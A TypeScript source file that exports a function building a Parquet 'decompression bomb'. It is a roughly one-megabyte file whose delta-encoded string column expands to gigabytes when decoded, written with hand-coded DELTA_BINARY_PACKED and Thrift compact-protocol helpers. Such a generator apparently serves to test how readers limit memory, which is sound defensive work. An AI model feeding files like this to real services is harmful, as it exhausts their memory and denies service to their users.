/**
 * A Parquet file of one megabyte that decodes into gigabytes: DELTA_BYTE_ARRAY (Parquet encodings, "Delta Strings")
 * whose values each repeat the first million bytes and add none.
 */
export function parquetBomb(values: number, length = 1_000_000): Buffer {
  const page = Buffer.concat([
    deltas([0, ...Array.from({ length: values - 1 }, () => length)]),
    deltas([length, ...Array.from({ length: values - 1 }, () => 0)]),
    Buffer.alloc(length, 'a'),
  ])
  const header = struct([
    [1, i32(0)], // a data page
    [2, i32(page.length)],
    [3, i32(page.length)],
    [
      5,
      nested([
        [1, i32(values)],
        [2, i32(7)],
        [3, i32(3)],
        [4, i32(3)],
      ]),
    ],
  ])
  const chunk = nested([
    [1, i32(6)], // byte arrays
    [2, listOf(5, [zigzag(7)])],
    [3, listOf(8, [text('company')])],
    [4, i32(0)], // not compressed
    [5, i64(values)],
    [6, i64(header.length + page.length)],
    [7, i64(header.length + page.length)],
    [9, i64(4)],
  ])
  const footer = struct([
    [1, i32(1)],
    [
      2,
      listOf(12, [
        struct([
          [4, binary('root')],
          [5, i32(1)],
        ]),
        struct([
          [1, i32(6)],
          [3, i32(0)],
          [4, binary('company')],
          [6, i32(0)],
        ]),
      ]),
    ],
    [3, i64(values)],
    [
      4,
      listOf(12, [
        struct([
          [
            1,
            listOf(12, [
              struct([
                [2, i64(4)],
                [3, chunk],
              ]),
            ]),
          ],
          [2, i64(header.length + page.length)],
          [3, i64(values)],
        ]),
      ]),
    ],
  ])
  const length32 = Buffer.alloc(4)
  length32.writeUInt32LE(footer.length)
  const magic = Buffer.from('PAR1')
  return Buffer.concat([magic, header, page, footer, length32, magic])
}

/** DELTA_BINARY_PACKED: blocks of 128 values in four parts, each with the bits that its differences need. */
function deltas(values: number[]): Buffer {
  const parts = [varint(128), varint(4), varint(values.length), zigzag(values[0] ?? 0)]
  for (let at = 1; at < values.length; at += 128) {
    const block = Array.from({ length: 128 }, (_, index) =>
      at + index < values.length ? (values[at + index] ?? 0) - (values[at + index - 1] ?? 0) : 0,
    )
    const least = Math.min(...block)
    const bits = [0, 1, 2, 3].map((part) =>
      Math.max(0, ...block.slice(part * 32, part * 32 + 32).map((delta) => bitsOf(delta - least))),
    )
    parts.push(zigzag(least), Buffer.from(bits))
    for (const [part, width] of bits.entries())
      parts.push(
        packed(
          block.slice(part * 32, part * 32 + 32).map((delta) => delta - least),
          width,
        ),
      )
  }
  return Buffer.concat(parts)
}

const bitsOf = (value: number): number => (value === 0 ? 0 : Math.floor(Math.log2(value)) + 1)

function packed(values: number[], width: number): Buffer {
  const bytes = Buffer.alloc((values.length * width) / 8)
  for (const [index, value] of values.entries())
    for (let bit = 0; bit < width; bit += 1) {
      const at = index * width + bit
      if (Math.floor(value / 2 ** bit) % 2 === 1) bytes[at >> 3] = (bytes[at >> 3] ?? 0) | (1 << (at & 7))
    }
  return bytes
}

// The compact protocol of Thrift: a field is its type, the step to its number, and its value.
type Value = { type: number; bytes: Buffer }

function struct(fields: [number, Value][]): Buffer {
  let last = 0
  const parts = fields.map(([id, { type, bytes }]) => {
    const head = Buffer.from([((id - last) << 4) | type])
    last = id
    return Buffer.concat([head, bytes])
  })
  return Buffer.concat([...parts, Buffer.from([0])])
}

function varint(value: number): Buffer {
  const bytes: number[] = []
  let rest = value
  for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | 128)
  return Buffer.from([...bytes, rest])
}

const zigzag = (value: number): Buffer => varint(value < 0 ? -2 * value - 1 : 2 * value)
const i32 = (value: number): Value => ({ type: 5, bytes: zigzag(value) })
const i64 = (value: number): Value => ({ type: 6, bytes: zigzag(value) })
const text = (value: string): Buffer => Buffer.concat([varint(Buffer.byteLength(value)), Buffer.from(value)])
const binary = (value: string): Value => ({ type: 8, bytes: text(value) })
const nested = (fields: [number, Value][]): Value => ({ type: 12, bytes: struct(fields) })
const listOf = (type: number, items: Buffer[]): Value => ({
  type: 9,
  bytes: Buffer.concat([Buffer.from([(items.length << 4) | type]), ...items]),
})
